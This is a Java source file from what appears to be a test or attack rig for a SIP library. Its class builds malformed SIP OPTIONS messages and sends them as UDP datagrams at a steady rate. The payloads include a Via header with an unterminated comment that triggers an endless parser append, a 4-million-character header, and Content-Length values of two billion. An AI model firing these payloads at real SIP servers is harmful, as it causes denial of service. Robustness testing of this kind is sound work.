package org.diapason.attack.rig;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/** The attacks that kill the bare library. */
public final class Blows {

  /** Octets that fit into a datagram. */
  static final int LONGEST = 65_000;
  private static final String LENGTH = "Content-Length: 0";
  private static final String HUGE = "Content-Length: 2000000000";

  private Blows() {
  }

  /** The datagram that sends a Via parser into an endless append, bare and within a whole request. */
  public static List<byte[]> killers(String user, String transport, String via) {
    return List.of(Messages.bytes("OPTIONS sip:u@h SIP/2.0\r\nVia: SIP/2.0/UDP h (\\\r\n\r\n"),
        Messages.bytes(Messages.request("OPTIONS", user, transport, via, "").replace(";rport", " (\\")));
  }

  /** One endless header line, and lengths for which no memory suffices. */
  public static List<byte[]> framings(String user, String transport, String via) {
    List<byte[]> all = new ArrayList<>();
    all.add(Messages.bytes("OPTIONS sip:u@h SIP/2.0\r\nSubject: " + "x".repeat(4_000_000)));
    String request = Messages.request("OPTIONS", user, transport, via, "");
    all.add(Messages.bytes(request.replace(LENGTH, HUGE)));
    all.add(Messages.bytes(request.replace(LENGTH, HUGE + "\r\n" + HUGE + "\r\n" + HUGE)));
    return all;
  }

  /** Sends datagrams at a steady rate; those longer than one can be are cut. */
  public static void datagrams(InetAddress source, InetSocketAddress target, List<byte[]> messages, int perSecond)
      throws IOException {
    DatagramAttacker.strike(source, target, messages, perSecond, () -> { });
  }

  /** Waits for the next of so many in a second. */
  public static void pause(int perSecond) {
    LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(1) / perSecond);
  }
}
